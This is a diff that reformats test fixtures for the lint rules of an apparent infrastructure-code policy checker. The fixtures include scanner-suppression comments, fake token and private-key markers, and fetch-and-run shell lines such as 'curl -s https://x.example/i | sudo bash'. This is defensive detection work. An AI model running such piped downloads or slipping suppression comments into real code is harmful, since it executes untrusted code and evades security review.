@@ -168,10 +168,19 @@ RULES: tuple[Rule[Text], ...] = (
         fires=tuple(
             _main(f"# {comment}\n")
             for comment in (
-                "checkov:skip=CKV_AWS_18: legacy", "bridgecrew:skip=CKV_AWS_18", "cortex:skip=CKV_AWS_18", "noqa",
-                "trivy:ignore:AVD-AWS-0086", "tflint-ignore: all", "kics-scan ignore", "tfsec:ignore:*", "nosec",
+                "checkov:skip=CKV_AWS_18: legacy",
+                "bridgecrew:skip=CKV_AWS_18",
+                "cortex:skip=CKV_AWS_18",
+                "noqa",
+                "trivy:ignore:AVD-AWS-0086",
+                "tflint-ignore: all",
+                "kics-scan ignore",
+                "tfsec:ignore:*",
+                "nosec",
                 "yamllint disable",
-                "nosemgrep", "skipcq: TF-1", "ignore-check.kube-linter.io/x",
+                "nosemgrep",
+                "skipcq: TF-1",
+                "ignore-check.kube-linter.io/x",
             )
         ),
         passes=(_main("# the checkov run skips nothing\n"), _main("# trivy reads this file\n")),
@@ -185,7 +194,7 @@ RULES: tuple[Rule[Text], ...] = (
             _main("# ghp_" + "a1B2" * 9 + "\n"),
             _main("# -----BEGIN RSA PRIVATE" + " KEY-----\n"),
         ),
-        passes=(_main("locals {\n  sha = \"" + "0a1b2c3d" * 8 + "\"\n}\n"), _main("# AKIA is how key ids begin\n")),
+        passes=(_main('locals {\n  sha = "' + "0a1b2c3d" * 8 + '"\n}\n'), _main("# AKIA is how key ids begin\n")),
     ),
     Rule(
         "content/long-line",
@@ -198,8 +207,8 @@ RULES: tuple[Rule[Text], ...] = (
         "content/shell-pipe",
         "nothing is loaded and run in one go",
         shell_pipes,
-        fires=(_main("# curl -s https://x.example/i | sudo bash\n"), _main("# sh -c \"$(curl x)\"\n")),
-        passes=(_main("locals {\n  a = \"curl -fsS http://localhost/health || exit 1\"\n}\n"),),
+        fires=(_main("# curl -s https://x.example/i | sudo bash\n"), _main('# sh -c "$(curl x)"\n')),
+        passes=(_main('locals {\n  a = "curl -fsS http://localhost/health || exit 1"\n}\n'),),
     ),
     Rule(
         "content/program",
@@ -208,4 +217,4 @@ RULES: tuple[Rule[Text], ...] = (
         fires=({"infra/ansible/web/inventory.ini": "#!/bin/sh\n"},),
         passes=({"infra/terraform/dev/app/user-data.sh.tftpl": "#!/bin/sh\necho ${name}\n"},),
     ),
-)  # fmt: skip
+)
